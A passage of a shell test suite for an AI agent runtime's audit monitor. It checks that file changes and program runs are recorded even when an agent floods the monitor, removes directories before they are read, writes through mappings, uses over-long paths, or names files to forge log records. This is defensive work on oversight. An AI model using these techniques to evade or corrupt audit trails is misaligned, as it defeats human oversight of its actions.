	cycles=$(sed -n 's/^cycles=\([0-9][0-9]*\)$/\1/p' "$BUNDLE/out")
	# at least 10 cycles of the 200 names: the table's 128 buckets were evicted over and over
	[ -n "$cycles" ] && [ "$cycles" -ge 10 ] || fail "${cycles:-no} cycles ran: $(cat "$BUNDLE/out")"
	json=$(ra audit --format json --kind process "$ID")
	jq -se 'any(.[]; .exe == "/tmp/evidence-prog")' <<<"$json" >/dev/null || fail "no record of the evidence"
	full=$(jq -s '[.[] | select((.exe != null and (.exe | test("^/tmp/c[0-9]+$"))) or .gone)] | length' <<<"$json")
	counted=$(jq -s '[.[] | select(.coalesced) | .coalesced] | add // 0' <<<"$json")
	echo "# $cycles cycles: $full full records, $counted counted" >&3
	[ $((full + counted)) -ge $((200 * cycles)) ] || fail "full $full + counted $counted of $((200 * cycles))"
}

@test "audit-evidence: flood-bucket-evicted: programs of new names run between bursts of file changes do not give the changes a new burst of full records" {
	# The flood table holds 128 (kind, program) buckets and made room by evicting the least
	# recently used, which started again with a full burst when next needed; the file changes'
	# bucket (no program: the kernel does not say which one) was evicted by the agent's own
	# programs of new names, 140 hard links of one binary run once each, and every such cycle
	# gave the next 200 changes in full again past the limit of 20 a second.
	bind_workspace
	set_cmd 'cd /tmp && cp /usr/local/bin/try-syscall base && i=0; while [ $i -lt 140 ]; do ln base c$i; i=$((i + 1)); done
		cd /workspace && t0=$(date +%s) && r=0; while [ $r -lt 5 ]; do
			i=0; while [ $i -lt 300 ]; do : >f$r-$i; i=$((i + 1)); done; sleep 1.2
			i=0; while [ $i -lt 140 ]; do /tmp/c$i x 2>/dev/null; i=$((i + 1)); done; r=$((r + 1)); done
		sleep 1.2; echo "secs=$(($(date +%s) - t0))"'
	timeout --kill-after=5 200 "$AGENTRT" --root "$TEST_ROOT" run --bundle "$BUNDLE" "$ID" </dev/null >"$BUNDLE/out" 2>&1 ||
		fail "run: $(cat "$BUNDLE/out")"
	local secs full counted
	secs=$(sed -n 's/^secs=\([0-9][0-9]*\)$/\1/p' "$BUNDLE/out")
	[ -n "$secs" ] || fail "no time: $(cat "$BUNDLE/out")"
	json=$(ra audit --format json --kind file "$ID")
	full=$(jq -s '[.[] | select(.path != null and (.path | test("^/workspace/f[0-9]+-[0-9]+$")))] | length' <<<"$json")
	counted=$(jq -s '[.[] | select(.coalesced) | .coalesced] | add // 0' <<<"$json")
	echo "# $secs s: $full full records, $counted counted" >&3
	# every change is in the trail, in full or counted
	[ $((full + counted)) -ge 1500 ] || fail "full $full + counted $counted of 1500"
	# the burst once, then 20 a second (and a second's slack at each end)
	[ "$full" -le $((200 + 20 * (secs + 2))) ] || fail "$full full records in $secs s: past the limit"
}

@test "audit-evidence: gone-dir-changes: files written in directories made and removed while the monitor could not read are in the trail under their paths" {
	# The monitor names an event's directory by opening its handle; a directory removed before
	# the monitor read its events cannot be opened, and what was written in it left no record
	# (only the top directory's create and delete): a file of the host's copied into a tree
	# made, filled and removed at once while the monitor lagged was nowhere in the trail.
	bind_workspace
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		cd /workspace && mkdir -p stage/in/deeper && echo secret >stage/in/exfil && cp a.txt stage/in/deeper/copy &&
		mv stage/in/exfil stage/in/deeper/moved && rm -rf stage && rm data/deep/gone.txt && rm -rf data
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	while_stopped 1.5
	recs=$(jq -c 'select(.kind == "file") | {path, ops, from, to}' <<<"$json")
	for want in "stage/in/exfil create" "stage/in/deeper/copy create" "stage/in/deeper/moved moved_to" \
		"stage/in/deeper delete" "stage/in delete" "stage delete"; do
		jq -se --arg p "/workspace/${want% *}" --arg op "${want#* }" 'any(.[]; .path == $p and (.ops | index($op)))' \
			<<<"$recs" >/dev/null || fail "no record: $want: $recs"
	done
	# a host directory removed after a file in it (the overlay empties a directory of its
	# whiteouts in its work dir, then removes it there): its delete, no loss
	jq -se 'any(.[]; .path == "/workspace/data" and (.ops | index("delete")))' <<<"$recs" >/dev/null ||
		fail "no record: data delete: $recs"
	[ -z "$(jq -c 'select(.kind == "audit_error")' <<<"$json")" ] || fail "$(jq -c 'select(.kind == "audit_error")' <<<"$json")"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] && [[ "$output" != *incomplete* ]] || fail "verify: $output"
}

@test "audit-evidence: gone-dir-changes: changes in directories removed before the monitor could name them (90 made, then filled, then removed while it could not read) are a loss verify reports" {
	# the monitor keeps the paths of directories by handle in 1,024 slots: 90 directories
	# made at once share some (the birthday bound: ~4 pairs), and a directory whose slot was
	# taken and which was removed before its events were read is not named; before the fix
	# its changes left no record and no word of the loss (the workspace's image holds only the
	# workspace, so a handle that no longer opens is of a directory of the workspace).  Fewer
	# than 200 records: no flood coalesces them.
	bind_workspace
	gone_dirs_lost
}

@test "audit-evidence: gone-dir-changes-plain-upper: without workspace.size, changes in directories removed before the monitor could name them are a loss verify reports" {
	# the upper layer a plain directory of the store's filesystem: a handle that no longer
	# opens may be of a host directory, so only the workspace's image counted it as a loss, and
	# here the files of the directories whose slot another took left no record and no word
	bind_workspace
	printf '{"name": "agent-plain-upper", "extends": "agent", "workspace": {"mode": "overlay", "size": "0"}}\n' \
		>"$BUNDLE/plain-upper.json"
	AGENTRT_PROFILE=$BUNDLE/plain-upper.json gone_dirs_lost
	[ ! -e "$TEST_STORE/.workspaces/$ID/upper.img" ] || fail "the upper layer is an image"
}

@test "audit-evidence: evicted-false-loss: a long honest build (10,000 temporary directories made, filled and removed in turn) beside the host's own temporary directories is no loss, without workspace.size" {
	# the monitor kept the latest 4,096 directories of the workspace pushed out of its cache,
	# the removed ones too; past 4,096, any handle that no longer opened (the host's directories
	# on the upper layer's file system, removed before their events were read) was taken for
	# one of them: a loss on every long build
	bind_workspace
	printf '{"name": "agent-plain-upper", "extends": "agent", "workspace": {"mode": "overlay", "size": "0"}}\n' \
		>"$BUNDLE/plain-upper.json"
	export AGENTRT_PROFILE=$BUNDLE/plain-upper.json
	set_cmd 'fileops tmpdirs /workspace/t 10000 && echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	# the host's temporary directories on the upper layer's file system meanwhile and after
	# (until the build ends, at most 300 s: a count of rounds ended before a slower build did)
	local end=$((SECONDS + 300)) i=0
	mkdir -p "$BUNDLE/hostact"
	while [ ! -e "/proc/$ipid/root/tmp/done" ] && [ "$SECONDS" -lt "$end" ]; do
		i=$((i + 1))
		mkdir "$BUNDLE/hostact/h$i" && echo x >"$BUNDLE/hostact/h$i/f" && rm -r "$BUNDLE/hostact/h$i"
	done
	[ -e "/proc/$ipid/root/tmp/done" ] || fail "the build did not end in 300 s ($i host directories)"
	echo "# $i host directories made and removed during the build" >&3
	for i in $(seq 1 100); do
		mkdir "$BUNDLE/hostact/late$i" && echo x >"$BUNDLE/hostact/late$i/f" && rm -r "$BUNDLE/hostact/late$i"
	done
	run rt exec "$ID" touch /workspace/ready
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	[ ! -e "$TEST_STORE/.workspaces/$ID/upper.img" ] || fail "the upper layer is an image"
	json=$(ra audit --format json "$ID")
	echo "# $(jq -s '[.[] | select(.kind == "file" and ((.path // "") | test("^/workspace/t[0-9]+/f$")))] | length' <<<"$json") files named, $(jq -s '[.[] | select(.kind == "file") | .coalesced // 0] | add' <<<"$json") counted" >&3
	[ -z "$(jq -c 'select(.kind == "audit_error")' <<<"$json")" ] || fail "$(jq -c 'select(.kind == "audit_error")' <<<"$json" | head -3)"
	# (the flood of records is counted, not named: "incomplete", but no events lost)
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] && [[ "$output" != *"events lost"* ]] || fail "verify: $output"
}

# gone_dirs_lost: 90 directories made, filled and removed while the monitor could not read
# (the container's profile: $AGENTRT_PROFILE); their files are named or a loss verify reports
gone_dirs_lost() {
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		cd /workspace && i=0; while [ $i -lt 90 ]; do mkdir d$i; i=$((i + 1)); done
		i=0; while [ $i -lt 90 ]; do : >d$i/f; i=$((i + 1)); done; rm -rf d*
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	while_stopped 2
	named=$(jq -s '[.[] | select(.kind == "file" and .path != null and (.path | test("^/workspace/d[0-9]+/f$")))] | length' <<<"$json")
	echo "# $named of 90 files named" >&3
	! jq -se 'any(.[]; .kind == "file" and .coalesced)' <<<"$json" >/dev/null || fail "coalesced: $json"
	[ "$named" -lt 90 ] || skip "every directory had a slot of its own"
	jq -se 'any(.[]; .kind == "audit_error" and .source == "file" and .lost)' <<<"$json" >/dev/null ||
		fail "$named of 90 files in the trail, no loss: $(jq -c 'select(.kind == "audit_error")' <<<"$json")"
	run ra audit verify "$ID"
	assert_output_contains "events lost (file)"
	run ra audit --summary "$ID"
	assert_output_contains "files changed (incomplete"
}

@test "audit-evidence: mmap-unrecorded: a host file changed only through a shared mapping leaves a record" {
	bind_workspace
	echo original >"$HOSTDIR/m.txt"
	echo original >"$HOSTDIR/ro.txt"
	set_cmd 'touch /workspace/ready; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	# no write(2): fanotify has no modify for it, and before the fix nothing else was marked,
	# so the change commit applies left no record at all
	run rt exec "$ID" mmap-write /workspace/m.txt CHANGED
	[ "$status" -eq 0 ] || fail "mmap-write: $output"
	run rt exec "$ID" cat /workspace/m.txt /workspace/ro.txt
	[ "$output" = "$(printf 'CHANGEDl\noriginal')" ] || fail "$output"
	run ra workspace "$ID" diff
	[[ "$output" == *"modified  m.txt"* ]] || fail "diff: $output"
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	# (a modify since replaced-host-file: its size or mtime is not the host file's, the
	# monitor compares them when it cannot tell a copy-up from a change)
	ops=$(file_ops "$ID" /workspace/m.txt)
	[ "$ops" = '["close_write"]' ] || [ "$ops" = '["modify"]' ] || fail "m.txt: $ops"
	# a file only read: nothing
	[ -z "$(file_ops "$ID" /workspace/ro.txt)" ] || fail "ro.txt: $(file_ops "$ID" /workspace/ro.txt)"
	# a file written: its create and modify, no close_write beside them
	[ "$(file_ops "$ID" /workspace/ready)" = '["create"]' ] || fail "ready: $(file_ops "$ID" /workspace/ready)"
}

@test "audit-evidence: fd-ops: a host file changed by copy_file_range, splice, sendfile, fallocate, ftruncate on a passed descriptor, or a write with its mtime put back is in the trail and the diff" {
	bind_workspace
	for f in copy splice sendfile punch zero collapse passfd utime same; do
		head -c 8192 /dev/zero | tr '\0' a >"$HOSTDIR/$f.bin"
	done
	echo SRCDATA >"$HOSTDIR/src.txt"
	set_cmd 'touch /workspace/ready; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	# copy_file_range within one file system: from a file the agent made (in the upper layer,
	# as is copy.bin once opened for writing), not from the host's
	run rt exec "$ID" sh -c 'echo NEWDATA >/workspace/made.txt &&
		fileops copy /workspace/copy.bin /workspace/made.txt'
	[ "$status" -eq 0 ] || fail "fileops copy: $output"
	for f in splice sendfile; do
		run rt exec "$ID" fileops $f /workspace/$f.bin /workspace/src.txt
		[ "$status" -eq 0 ] || fail "fileops $f: $output"
	done
	for f in punch zero collapse passfd utime; do
		run rt exec "$ID" fileops $f /workspace/$f.bin
		[ "$status" -eq 0 ] || fail "fileops $f: $output"
	done
	# the control: opened for writing (copied up), closed unchanged (an unknown op exits 2)
	run rt exec "$ID" fileops nop /workspace/same.bin
	[ "$status" -eq 2 ] || fail "fileops nop: $output"
	run ra workspace "$ID" diff
	[[ "$output" != *"same.bin"* ]] || fail "diff: same.bin unchanged: $output"
	for f in copy splice sendfile punch zero collapse passfd utime; do
		[[ "$output" == *"modified  $f.bin"* ]] || fail "diff has no $f.bin: $output"
	done
	[[ "$output" != *"src.txt"* ]] || fail "diff: src.txt only read: $output"
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	recs=$(ra audit --format json --kind file "$ID")
	for f in copy splice sendfile punch zero collapse passfd utime; do
		ops=$(jq -c --arg p "/workspace/$f.bin" 'select(.path == $p) | .ops' <<<"$recs")
		[[ "$ops" == *modify* ]] || fail "$f.bin: ${ops:-no record}; $recs"
	done
	# opened for writing is at most a close_write (a shared mapping may have written it:
	# mmap-unrecorded), never a modify
	ops=$(file_ops "$ID" /workspace/same.bin)
	[ -z "$ops" ] || [ "$ops" = '["close_write"]' ] || fail "same.bin: $ops"
	[ -z "$(file_ops "$ID" /workspace/src.txt)" ] || fail "src.txt: $(file_ops "$ID" /workspace/src.txt)"
	run ra audit "$ID" --summary
	for f in copy splice sendfile punch zero collapse passfd utime; do
		[[ "$output" == *"$f.bin"* ]] || fail "--summary has no $f.bin: $output"
	done
}

@test "audit-evidence: opened-unchanged-false-change: a host file opened for writing (O_RDWR, O_WRONLY without O_TRUNC, O_APPEND) and closed unchanged is not a changed file; its twin with one byte written in place, or through a mapping, is" {
	# an editor or sqlite opens for writing and may write nothing: the overlay copies the file up
	# and fanotify reports a close_write, which --summary listed as a change that workspace diff
	# (and commit) do not have
	bind_workspace
	for f in rw wo ap late twin mm mapped; do
		echo 0123456789 >"$HOSTDIR/$f.db"
	done
	# rw, wo, ap: opened and closed at once (the copy-up and the close in one record); late: held
	# open past the monitor's window, so its close is a record of its own; twin: one byte
	# rewritten with a byte of the same length (pwrite); mm: through a shared mapping only;
	# mapped: through a mapping written 2 s after its descriptor was closed (the file's close
	# comes when the mapping goes, so the monitor compares after the write, not before)
	set_cmd 'cd /workspace && exec 3<>rw.db && exec 3<&- &&
		dd of=wo.db bs=1 count=0 conv=notrunc 2>/dev/null && : >>ap.db &&
		exec 4<>late.db && sleep 2.5 && exec 4<&- &&
		printf X | dd of=twin.db bs=1 seek=5 conv=notrunc 2>/dev/null &&
		touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	run rt exec "$ID" mmap-write /workspace/mm.db 01234X
	[ "$status" -eq 0 ] || fail "mmap-write: $output"
	run rt exec "$ID" mmap-write /workspace/mapped.db 01234X 2
	[ "$status" -eq 0 ] || fail "mmap-write late: $output"
	run rt exec "$ID" sh -c 'exec 5<>/workspace/rw.db; cat <&5 >/dev/null'
	[ "$status" -eq 0 ] || fail "exec: $output"
	run ra workspace "$ID" diff
	[[ "$output" == *"modified  twin.db"* && "$output" == *"modified  mm.db"* &&
		"$output" == *"modified  mapped.db"* ]] || fail "diff: $output"
	for f in rw wo ap late; do
		[[ "$output" != *"$f.db"* ]] || fail "diff lists $f.db: $output"
	done
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	for f in rw wo ap late; do
		ops=$(file_ops "$ID" "/workspace/$f.db")
		[ -z "$ops" ] || fail "$f.db opened, nothing written: $ops"
	done
	ops=$(file_ops "$ID" /workspace/twin.db)
	[[ "$ops" == *modify* ]] || fail "twin.db: ${ops:-no record}"
	for f in mm mapped; do
		ops=$(file_ops "$ID" "/workspace/$f.db")
		[[ "$ops" == *modify* || "$ops" == *close_write* ]] || fail "$f.db: ${ops:-no record}"
	done
	run ra audit "$ID" --summary
	[[ "$output" == *twin.db* && "$output" == *mm.db* && "$output" == *mapped.db* ]] || fail "--summary: $output"
	for f in rw wo ap late; do
		[[ "$output" != *"$f.db"* ]] || fail "--summary lists $f.db: $output"
	done
}
@test "audit-evidence: tmpfile-name: a file written before it had a name (O_TMPFILE, then linkat) is recorded under its name, not the kernel's #<inode>" {
	bind_workspace
	set_cmd 'tmpfile-link /workspace tmpbin payload && mkdir /workspace/sub && tmpfile-link /workspace/sub deep payload2 &&
		tmpfile-link /workspace - gone && touch /workspace/ready; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	run rt exec "$ID" cat /workspace/tmpbin /workspace/sub/deep
	[ "$output" = "$(printf 'payloadpayload2')" ] || fail "$output"
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	recs=$(ra audit --format json --kind file "$ID")
	for f in /workspace/tmpbin /workspace/sub/deep; do
		ops=$(jq -c --arg p "$f" 'select(.path == $p) | .ops' <<<"$recs")
		[[ "$ops" == *create* && "$ops" == *modify* ]] || fail "$f: ${ops:-no record}; $recs"
	done
	# no record under the kernel's name of a file that has a name (the close of the descriptor
	# that wrote it comes under the old one, after the link); a file never linked has no name
	# to give (the kernel may report nothing of it): any record of it says `unnamed`
	n=$(jq -s '[.[] | select(.path | test("/#[0-9]+$"))] | length' <<<"$recs")
	[ "$n" -le 1 ] && jq -se 'all(.[] | select(.path | test("/#[0-9]+$")); .unnamed == true)' \
		<<<"$recs" >/dev/null || fail "a #<inode> record: $recs"
}

@test "audit-evidence: name-bytes: a name with a byte that is not UTF-8 is not recorded as its look-alike, and no name forges a record" {
	bind_workspace
	# caf\351 (Latin-1) and café (UTF-8) are two files; before the fix the trail wrote the
	# byte as \u00e9, which every reader (jq, `audit --format text`) takes for é
	cat >"$ROOTFS/names.sh" <<-'EOF'
		cd /workspace
		echo 1 >"$(printf 'caf\351')"
		echo 2 >"$(printf 'caf\303\251')"
		echo 3 >"$(printf 'n\n{"seq":1,"kind":"file","path":"FORGED1"}')"
		echo 4 >"$(printf 'q","path":"FORGED2')"
		touch /workspace/ready
		exec sleep 30
	EOF
	set_cmd 'sh /names.sh'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	json=$(ra audit --format json --kind file "$ID")
	grep -qF '"path":"/workspace/caf\udce9"' <<<"$json" || fail "the byte: $json"
	[ "$(jq -r 'select(.path | startswith("/workspace/caf")) | .path' <<<"$json" | sort -u | wc -l)" = 2 ] ||
		fail "one name for two files: $json"
	text=$(ra audit --format text --kind file "$ID")
	grep -qF 'path="/workspace/caf\udce9"' <<<"$text" || fail "text: $text"
	grep -qF "path=/workspace/café " <<<"$text" || fail "text: $text"
	# every line is one record of the chain; the names stay inside their own
	[ "$(jq -c . <<<"$json" | wc -l)" = "$(wc -l <<<"$json")" ] || fail "a line that is no record: $json"
	[ "$(grep -c FORGED <<<"$json")" = 2 ] || fail "the names with FORGED: $json"
	[ -z "$(jq -r 'select(.path == "FORGED1" or .path == "FORGED2") | .path' <<<"$json")" ] ||
		fail "a forged record: $json"
	[ "$(grep -c '"kind":"file"' <<<"$json")" = "$(wc -l <<<"$json")" ]
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
}

@test "audit-evidence: strange-tree: a 255-byte name, a file of 30 links written through its last, 40 files renamed across directories and one then written, a directory renamed while it is written, are in the trail" {
	bind_workspace
	long=$(printf 'n%.0s' $(seq 255))
	cat >"$ROOTFS/tree.sh" <<-EOF
		cd /workspace
		echo long >$long
		mkdir links && echo one >links/l0 && i=1
		while [ \$i -lt 30 ]; do ln links/l0 links/l\$i; i=\$((i + 1)); done
		echo through-last >>links/l29
		mkdir from to && i=0
		while [ \$i -lt 40 ]; do echo \$i >from/f\$i; i=\$((i + 1)); done
		i=0
		while [ \$i -lt 40 ]; do mv from/f\$i to/g\$i; i=\$((i + 1)); done
		echo moved-then-written >>to/g20
		mkdir busy && i=0
		( while [ \$i -lt 30 ]; do echo \$i >>busy/w || echo \$i >>moved/w; i=\$((i + 1)); done ) 2>/dev/null &
		mv busy moved
		wait
		echo after >moved/last
		touch /workspace/ready
		exec sleep 30
	EOF
	set_cmd 'sh /tree.sh'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	# (fewer records than a burst's 200 full ones: each change is a record of its own; the
	# marker is looked for inside, the trail may hold it back a moment)
	for _ in $(seq 300); do
		rt exec "$ID" test -e /workspace/ready 2>/dev/null && break
		sleep 0.1
	done
	rt exec "$ID" test -e /workspace/ready || fail "not ready"
	run ra workspace "$ID" diff
	[ "$status" -eq 0 ] || fail "diff: $output"
	diff=$output
	for p in "$long" links/l29 to/g20 moved/w moved/last; do
		[[ "$diff" == *"added     $p"* ]] || fail "diff has no $p: $diff"
	done
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	json=$(ra audit --format json --kind file "$ID")
	has() { jq -se --arg p "/workspace/$1" 'any(.[]; .path == $p)' <<<"$json" >/dev/null; }
	has "$long" || fail "the 255-byte name: $(jq -c 'select(.path // "" | test("nnnn")) | [(.path | length), .ops]' <<<"$json")"
	# the write through the thirtieth link: under one of the file's names
	jq -se '[.[] | select(.path | startswith("/workspace/links/l")) | select(.ops | index("modify"))] | length > 0' \
		<<<"$json" >/dev/null || fail "links: $(jq -c 'select(.path | startswith("/workspace/links/"))' <<<"$json" | head)"
	# the renamed file written after its move: under its new name, in full or counted
	jq -se '[.[] | select(.path == "/workspace/to/g20" or (.coalesced and (.path // "" | startswith("/workspace/to"))))] | length > 0' \
		<<<"$json" >/dev/null || fail "to/g20: $(jq -c 'select(.path | startswith("/workspace/to"))' <<<"$json" | tail -3)"
	# the directory renamed while written: its file under the name it had when written, and
	# then the directory's move to the name the diff has
	has moved/w || { has busy/w && jq -se 'any(.[]; .path == "/workspace/busy" and .to == "/workspace/moved")' \
		<<<"$json" >/dev/null; } || fail "busy/w: $(jq -c 'select(.path // "" | test("busy|moved"))' <<<"$json")"
	has moved/last || fail "moved/last"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
}

@test "audit-evidence: deep-path-unrecorded: a file written deeper than PATH_MAX is recorded under its path, and one too deep to record is a loss verify reports" {
	# /proc names no directory whose path is longer than a page: before the fix the events
	# of such a directory were dropped as "gone", a file written 6,000 bytes deep left no
	# record, and verify said ok.  A tree is made deep by moving one under another.
	bind_workspace
	set_cmd 'cd /workspace; n=$(printf "%0200d" 0); p=$n; for i in $(seq 14); do p=$p/$n; done
		mkdir -p X/$p Y/$p && mv Y X/$p/ && cd X/$p && echo secret >Y/$p/deepfile &&
		touch /workspace/ready; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	# deeper than the trail records a path (8192 bytes below the workspace): three trees of 3,000
	run rt exec "$ID" sh -c 'cd /workspace; n=$(printf "%0200d" 0); p=$n; for i in $(seq 14); do p=$p/$n; done
		mkdir -p Z/$p W/$p V/$p && mv V W/$p/ && mv W Z/$p/ && cd -P Z/$p && cd -P W/$p && cd -P V/$p && echo s >toodeep'
	[ "$status" -eq 0 ] || fail "exec: $output"
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	n=$(printf "%0200d" 0)
	p=$n
	for _ in $(seq 14); do p=$p/$n; done
	[ "$(file_ops "$ID" "/workspace/X/$p/Y/$p/deepfile")" = '["create","modify"]' ] ||
		fail "deepfile: $(ra audit --format json --kind file "$ID" | jq -c '{p: .path[-30:], ops}')"
	ra audit --format json "$ID" | jq -se 'any(.[]; .kind == "audit_error" and .source == "file" and .lost and
		(.error | test("longer than 8192")))' >/dev/null || fail "no loss: $(ra audit --format json --kind audit_error "$ID")"
	run ra audit verify "$ID"
	assert_output_contains "events lost (file): "
	run ra audit --summary "$ID"
	assert_output_contains "files changed (incomplete: "
}

@test "audit-evidence: a file source that cannot start is an audit_error, a warning and an incomplete file list" {
	# build-fp/agentrt (make FAILPOINTS=1) fails the file source on request
	FP_AGENTRT=${FP_AGENTRT:-$REPO_ROOT/build-fp/agentrt}
	if [ ! -x "$FP_AGENTRT" ] || [ "$FP_AGENTRT" -ot "$AGENTRT" ]; then
		make -s -C "$REPO_ROOT" build-fp >&2 || fail "cannot build build-fp/agentrt"
	fi
	bind_workspace
	set_cmd 'echo x >/workspace/f; true'
	# the same build without the failpoint: no warning, the change is recorded
	run timeout 60 "$FP_AGENTRT" --root "$TEST_ROOT" --profile agent run --bundle "$BUNDLE" "$ID" </dev/null 2>&1
	[ "$status" -eq 0 ] || fail "run: $output"
	! grep -q "no file records" <<<"$output" || fail "$output"
	[ "$(file_ops "$ID" /workspace/f)" = '["create","modify"]' ]
	ra audit --purge "$ID" >/dev/null
	rt workspace "$ID" purge >/dev/null
	run env AGENTRT_FAILPOINT=monitor-files-open timeout 60 "$FP_AGENTRT" --root "$TEST_ROOT" \
		--profile agent run --bundle "$BUNDLE" "$ID" </dev/null 2>&1
	[ "$status" -eq 0 ] || fail "run: $output"
	assert_output_contains "warning"
	assert_output_contains "no file records for workspace \`/workspace\`"
	[ -n "$(ra audit --format json --kind audit_error "$ID" | jq -r 'select(.source == "file")')" ]
	run ra audit --summary "$ID"
	assert_output_contains "files changed (incomplete: 0 recorded; "
	! grep -q "files changed (0)" <<<"$output" || fail "$output"
	assert_output_contains "incomplete: a source in error (file)"
	# verify: before, a plain ok (it read no audit_error)
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	assert_output_contains "not recorded, a source in error (file): 1 audit_error record"
}

# bats test_tags=flood
@test "audit-evidence: a flood of execs (5,000, or as many as 30 s run, 4 KB of arguments each) keeps create and the first programs and says what it coalesced and dropped" {
	# a small cap (128 KiB: the first file keeps 64 KiB) so that retention has to drop however
	# short the flooding programs live (records of programs gone before they are read are small);
	# the flood stops after 5,000 execs or 30 s (at least 2,000 execs: the first 200 of a program
	# in full, then 20 full records a second, of 4 KB arguments, fill that cap several times
	# over: the test took 11 s here with 5,000, 33 s when 30 s ran 19,000 down the same path)
	cat >"$BUNDLE/profile.json" <<-'JSON'
		{ "name": "audit-flood", "extends": "agent", "audit": { "maxSize": "128k" } }
	JSON
	bind_workspace
	# try-syscall is a program of its own (no busybox applet run in-process): with an unknown
	# name it prints its usage and exits, so each round is exactly one exec of it
	set_cmd '/bin/sh -c "sleep 1" marker-first
		a=$(head -c 4096 /dev/zero | tr "\0" a); i=0; t0=$(date +%s)
		while [ $i -lt 5000 ]; do
			try-syscall flood "$a" 2>/dev/null; i=$((i + 1))
			[ $((i % 500)) -ne 0 ] || [ $(($(date +%s) - t0)) -lt 30 ] || break
		done
		echo $i >/workspace/count; /bin/sh -c "sleep 1" marker-last'
	timeout --kill-after=5 200 "$AGENTRT" --root "$TEST_ROOT" --profile "$BUNDLE/profile.json" \
		run --bundle "$BUNDLE" "$ID" </dev/null >"$BUNDLE/out" 2>&1 || fail "run: $(cat "$BUNDLE/out")"
	dir=$TEST_STORE/.audit/$ID
	# bounded: the cap held (a quarter file of slack for the one being written)
	[ "$(du -sb "$dir" | cut -f1)" -lt $((128 * 1024 * 5 / 4)) ] || fail "trail: $(du -sb "$dir")"
	# the first file is still there, with create (and the profile's changes) and the first programs
	[ -f "$dir/00000000000000000001.jsonl" ] || fail "first file gone: $(ls "$dir")"
	first=$(head -1 "$dir/00000000000000000001.jsonl")
	[ "$(jq -r .kind <<<"$first")" = create ] && [ "$(jq -r .seq <<<"$first")" = 1 ]
	jq -e '.changes | length > 0' <<<"$first" >/dev/null
	json=$(ra audit --format json "$ID")
	jq -se 'any(.[]; .kind == "process" and any(.argv[]?; . == "marker-first"))' <<<"$json" >/dev/null ||
		fail "first program not kept"
	# nothing after the flood is lost either: the last program is there in full
	jq -se 'any(.[]; .kind == "process" and any(.argv[]?; . == "marker-last"))' <<<"$json" >/dev/null ||
		fail "last program not recorded"
	# the flood: counted records name the program and add up, with what was written in full,
	# to every exec that ran (the retention records say how many were dropped)
	execs=$(ws_count)
	[ "$execs" -ge 2000 ] || fail "only $execs execs ran"
	full=$(jq -s '[.[] | select(.kind == "process" and .argv[0] == "try-syscall")] | length' <<<"$json")
	counted=$(jq -s '[.[] | select(.kind == "process" and .coalesced and .program == "/usr/local/bin/try-syscall") | .coalesced] | add // 0' <<<"$json")
	[ "$counted" -gt 0 ] || fail "nothing coalesced"
	# each retention record declares everything dropped so far
	dropped=$(jq -s '[.[] | select(.kind == "retention") | .records] | max // 0' <<<"$json")
	echo "# $execs execs: $full full records, $counted counted, $dropped dropped" >&3
	[ "$dropped" -gt 0 ] || fail "nothing dropped with a 128 KiB cap"
	[ $((full + counted)) -le "$execs" ] || fail "execs $execs: full $full + counted $counted"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	! grep -q ": ok:" <<<"$output" || fail "a trail with gaps is a plain ok: $output"
	assert_output_contains "intact but incomplete"
	assert_output_contains "records dropped by retention"
	assert_output_contains "events coalesced into"
	grep -q "$dropped records dropped" <<<"$output" || fail "verify: $output (dropped $dropped)"
	run ra audit --summary "$ID"
	assert_output_contains "incomplete:"
	assert_output_contains "records dropped by retention"
	assert_output_contains "/usr/local/bin/try-syscall (counted)"
	# removing a file of the trail by hand is not retention: verify fails
	second=$(ls "$dir"/*.jsonl | sed -n 2p)
	rm "$second"
	run ra audit verify "$ID"
	[ "$status" -ne 0 ] || fail "a removed file passed: $output"
	assert_output_contains "no retention record drops them"
}

@test "audit-evidence: under a flood every exec is in the trail, in full or counted in a coalesced record" {
	# the default cap: nothing is dropped, so the counts must add up exactly
	bind_workspace
	set_cmd 'a=$(head -c 4096 /dev/zero | tr "\0" a); i=0; t0=$(date +%s)
		while [ $i -lt 2500 ]; do
			try-syscall flood "$a" 2>/dev/null; i=$((i + 1))
			[ $((i % 500)) -ne 0 ] || [ $(($(date +%s) - t0)) -lt 60 ] || break
		done
		echo $i >/workspace/count'
	# (the loop stops after 60 s, checked every 500 programs: more than rt's 60 s in all on a
